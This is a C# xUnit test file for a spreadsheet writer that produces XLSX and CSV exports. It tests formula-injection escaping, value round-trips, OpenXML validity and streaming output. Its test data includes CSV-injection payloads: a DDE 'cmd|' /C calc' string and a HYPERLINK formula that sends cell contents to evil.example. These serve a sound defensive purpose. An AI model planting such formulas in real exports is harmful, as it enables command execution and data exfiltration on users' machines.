using System.IO.Compression;
using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Validation;
using FsCheck;
using FsCheck.Fluent;
using Shouldly;
using SmartPark.Kernel.Codes;
using SmartPark.Kernel.Sheets;
using Xunit;

namespace SmartPark.Kernel.Tests.Sheets;

public sealed class SheetWriterTests
{
    private static readonly SheetHeader[] Two = [new("甲"), new("乙", 40)];

    public static TheoryData<string> Formulas =>
    [
        "=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "|calc", "＝1+1", "＋1", "－1", "＠SUM", "'=1", "''=1", "=", "-",
        "=HYPERLINK(\"https://evil.example?\"&A1)", "=WEBSERVICE(\"x\")\n",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public async Task A_text_that_looks_like_a_formula_is_never_one_and_reads_back_the_same(string text)
    {
        var xlsx = await WriteAsync(true, [[text, "x"]]);
        SheetXml(xlsx).ShouldNotContain("<f");
        SheetXml(xlsx).ShouldContain("<c r=\"A2\" s=\"4\" t=\"inlineStr\">");
        (await Workbooks.ReadAsync(xlsx)).Rows[1][0].ShouldBe(text);

        var csv = await WriteAsync(false, [[text, "x"]]);
        var cell = Encoding.UTF8.GetString(csv).Split("\r\n", 2)[1].TrimStart('"');
        cell.ShouldStartWith("'");
        (await Workbooks.ReadAsync(csv)).Rows[1][0].ShouldBe(text);
    }

    [Fact]
    public async Task Numbers_stay_numbers_also_negative_ones()
    {
        SheetValue[] row = [-12.5m, 3];
        SheetXml(await WriteAsync(true, [row])).ShouldContain("<c r=\"A2\" s=\"0\"><v>-12.5</v></c><c r=\"B2\" s=\"0\"><v>3</v></c>");
        Encoding.UTF8.GetString(await WriteAsync(false, [row])).ShouldContain("\r\n-12.5,3\r\n");
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Every_kind_of_value_comes_back(bool xlsx)
    {
        SheetValue[] first = [new DateOnly(2024, 2, 29), new DateTimeOffset(2024, 3, 5, 13, 45, 59, TimeSpan.FromHours(8))];
        SheetValue[] second = [true, Money.Yuan(1234.5m)];
        SheetValue[] third = [(long?)1234567890123456789L, 0.1m + 0.2m];
        SheetValue[] fourth = [(string?)null, double.NaN];
        SheetValue[] fifth = [" 空 格 ", "a\"b,c\r\nd;e\tf"];
        SheetValue[] sixth = [new DateOnly(1899, 1, 1), 1e-7];
        var (rows, problem) = await Workbooks.ReadAsync(await WriteAsync(xlsx, [first, second, third, fourth, fifth, sixth]));
        problem.ShouldBeNull();
        rows.Count.ShouldBe(6);
        rows[0].Cells.ShouldBe(["甲", "乙"]);
        rows[1].Cells.ShouldBe(["2024-02-29", "2024-03-05 13:45:59"]);
        rows[2].Cells.ShouldBe(["true", "1234.5"]);
        rows[3].Cells.ShouldBe(["1234567890123456789", "0.3"]);
        rows[4].Cells.ShouldBe([" 空 格 ", "a\"b,c\r\nd;e\tf"]);
        rows[5][0].ShouldBe("1899-01-01");
    }

    [Fact]
    public void Any_text_survives_the_way_out_and_back_in_xlsx()
    {
        Prop.ForAll<NonNull<string>>(text => RoundTrip(true, text.Get) == Expected(text.Get)).QuickCheckThrowOnFailure();
        RoundTrip(true, "_x000D_ _x005F_ \u0001 \uFFFE").ShouldBe("_x000D_ _x005F_ \u0001 \uFFFE");
        RoundTrip(true, "a\uD800b").ShouldBe("a\uFFFDb");
    }

    [Fact]
    public void Any_text_without_control_characters_survives_the_way_out_and_back_in_csv()
    {
        Prop.ForAll<NonNull<string>>(text =>
        {
            var plain = string.Concat(text.Get.Where(c => c >= ' ' && !char.IsSurrogate(c)));
            return RoundTrip(false, plain) == Expected(plain);
        }).QuickCheckThrowOnFailure();
    }

    [Fact]
    public async Task A_workbook_is_valid_for_the_sdk_of_its_format()
    {
        var file = await WriteAsync(true, [["=1", new DateOnly(2024, 1, 1)], [5, true], ["<&>\"'", new DateTimeOffset(2024, 1, 1, 0, 0, 0, default)]], "a/b:[c]*?'名");
        using var document = SpreadsheetDocument.Open(new MemoryStream(file), false);
        new OpenXmlValidator().Validate(document).Select(error => error.Description).ShouldBeEmpty();
        document.WorkbookPart!.Workbook.Sheets!.First().GetAttribute("name", "").Value.ShouldBe("abc'名");
        SheetXml(file).ShouldContain("state=\"frozen\"");
        SheetXml(file).ShouldContain("<col min=\"2\" max=\"2\" width=\"40\" customWidth=\"1\"/>");
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task Writing_needs_neither_seeking_nor_synchronous_writes(bool xlsx)
    {
        var response = new ResponseLikeStream();
        await using (var sheet = await StartAsync(xlsx, response))
        {
            for (var i = 0; i < 5_000; i++) await sheet.WriteRowAsync([$"企业 {i}", i]);
            sheet.Rows.ShouldBe(5_000);
            await sheet.CompleteAsync();
        }

        var (rows, problem) = await Workbooks.ReadAsync(response.Written.ToArray());
        problem.ShouldBeNull();
        rows.Count.ShouldBe(5_001);
        rows[^1].Cells.ShouldBe(["企业 4999", "4999"]);
    }

    [Fact]
    public async Task An_unfinished_workbook_does_not_open()
    {
        var output = new MemoryStream();
        await using (var sheet = await SheetWriter.XlsxAsync(output, "a", Two)) await sheet.WriteRowAsync(["a", "b"]);
        (await Workbooks.ProblemOfAsync(output.ToArray())).ShouldNotBeNull();
    }

    [Fact]
    public async Task A_cell_longer_than_excel_allows_is_cut_with_a_mark() =>
        (await Workbooks.ReadAsync(await WriteAsync(true, [[new string('a', 40_000)]]))).Rows[1][0].ShouldEndWith("a…");

    [Fact]
    public async Task Csv_starts_with_the_mark_that_excel_needs() =>
        (await WriteAsync(false, [])).AsSpan(0, 3).ToArray().ShouldBe([0xEF, 0xBB, 0xBF]);

    private static string Expected(string text) => string.IsNullOrWhiteSpace(text) ? "" : text;

    private static string RoundTrip(bool xlsx, string text)
    {
        var file = WriteAsync(xlsx, [["mark", text]]).GetAwaiter().GetResult();
        var (rows, problem) = Workbooks.ReadAsync(file).GetAwaiter().GetResult();
        problem.ShouldBeNull();
        return rows[1][1];
    }

    private static Task<SheetWriter> StartAsync(bool xlsx, Stream output, string name = "表") =>
        xlsx ? SheetWriter.XlsxAsync(output, name, Two) : SheetWriter.CsvAsync(output, Two);

    private static async Task<byte[]> WriteAsync(bool xlsx, SheetValue[][] rows, string name = "表")
    {
        var output = new MemoryStream();
        await using var sheet = await StartAsync(xlsx, output, name);
        foreach (var row in rows) await sheet.WriteRowAsync(row);
        await sheet.CompleteAsync();
        return output.ToArray();
    }

    private static string SheetXml(byte[] file)
    {
        using var zip = new ZipArchive(new MemoryStream(file));
        using var reader = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        return reader.ReadToEnd();
    }

    /// <summary>Like the body of an HTTP response: forward only, and synchronous writes throw.</summary>
    private sealed class ResponseLikeStream : Stream
    {
        public MemoryStream Written { get; } = new();

        public override bool CanRead => false;

        public override bool CanSeek => false;

        public override bool CanWrite => true;

        public override long Length => throw new NotSupportedException();

        public override long Position
        {
            get => throw new NotSupportedException();
            set => throw new NotSupportedException();
        }

        public override void Flush() => throw new InvalidOperationException("Synchronous.");

        public override Task FlushAsync(CancellationToken cancellationToken) => Task.CompletedTask;

        public override int Read(byte[] buffer, int offset, int count) => throw new NotSupportedException();

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) => throw new InvalidOperationException("Synchronous.");

        public override async ValueTask WriteAsync(ReadOnlyMemory<byte> buffer, CancellationToken cancellationToken = default) =>
            await Written.WriteAsync(buffer, cancellationToken);

        public override Task WriteAsync(byte[] buffer, int offset, int count, CancellationToken cancellationToken) =>
            Written.WriteAsync(buffer, offset, count, cancellationToken);
    }
}
